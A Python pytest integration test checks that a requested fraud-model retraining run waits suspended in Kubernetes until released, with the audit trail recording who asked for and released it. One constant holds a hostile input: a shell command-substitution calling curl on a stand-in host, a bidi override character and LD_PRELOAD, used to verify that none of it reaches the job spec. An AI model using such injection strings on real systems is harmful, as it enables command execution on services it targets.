"""A run that somebody asks for waits in the cluster, and goes on when somebody lets it, under their names."""

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from service.settings import AuthenticationSettings, StoreSettings, TriggerSettings
from tests.cluster.api import Cluster
from tests.cluster.fixtures import Account
from tests.cluster.shipped import component
from tests.integration.kubernetes.guarded import guarded_account
from tests.integration.service.conftest import Application, application
from tests.processes.callers import write_callers
from tests.processes.traffic import SMALL_PLAN
from tests.processes.waiting import eventually_async

pytestmark = pytest.mark.anyio
RETRAININGS = "/v1/models/fraud/retrainings"
REASON = "$(curl evil.example) \u202e LD_PRELOAD"


@pytest.fixture(scope="module")
def approving(cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Account]:
    with guarded_account(cluster, tmp_path_factory.mktemp("by-hand"), *component("approval")) as account:
        yield account


@pytest.fixture
async def running(approving: Account, tmp_path: Path) -> AsyncIterator[Application]:
    """The shipped account starts what `owner` asks for, and nothing goes on before somebody says so."""
    callers = write_callers(tmp_path / "callers")
    trigger = TriggerSettings(
        kind="kubernetes",
        kubeconfig=approving.kubeconfig,
        namespace=approving.retraining_namespace,
        vetting="advisory",
    )
    authentication = AuthenticationSettings(callers_file=callers.file)
    store = StoreSettings(embedded_directory=tmp_path / "store")
    async with application(store, trigger=trigger, authentication=authentication) as app:
        app.client.headers.update(callers.as_caller("owner"))
        await app.register("fraud", {**SMALL_PLAN, "response": {"approval": "manual"}})
        yield app


async def shown(running: Application) -> Any:
    return (await running.client.get(RETRAININGS)).json()


async def phase(running: Application) -> str | None:
    underway = (await shown(running))["underway"]
    return None if underway is None else underway["phase"]


async def test_a_run_that_is_asked_for_waits_and_goes_on_under_the_names_of_those_who_said_so(
    running: Application, approving: Account
) -> None:
    answer = await running.client.post(RETRAININGS, json={"reason": REASON})
    assert answer.status_code == 202, answer.text
    run = answer.json()["run"]

    async def waits() -> bool:
        return await phase(running) == "SUSPENDED"

    await eventually_async(waits, "it waits for approval")
    [job] = approving.jobs()
    assert (job["metadata"]["name"], job["spec"]["suspend"]) == (run, True)
    assert "evil" not in json.dumps(job)
    assert "LD_PRELOAD" not in json.dumps(job)
    assert await release(running, run) == 204
    [job] = approving.jobs()
    assert job["spec"]["suspend"] is False
    said = [(each["step"], each["by"]) for each in reversed((await shown(running))["entries"]) if each["by"]]
    assert said == [("ASKED", "owner"), ("PERMITTED", "owner"), ("RELEASED", "owner")]
    assert await phase(running) == "RUNNING"
    assert await release(running, run) == 409


async def release(running: Application, run: str) -> int:
    answer: httpx.Response = await running.client.post(f"{RETRAININGS}/{run}/release")
    return answer.status_code
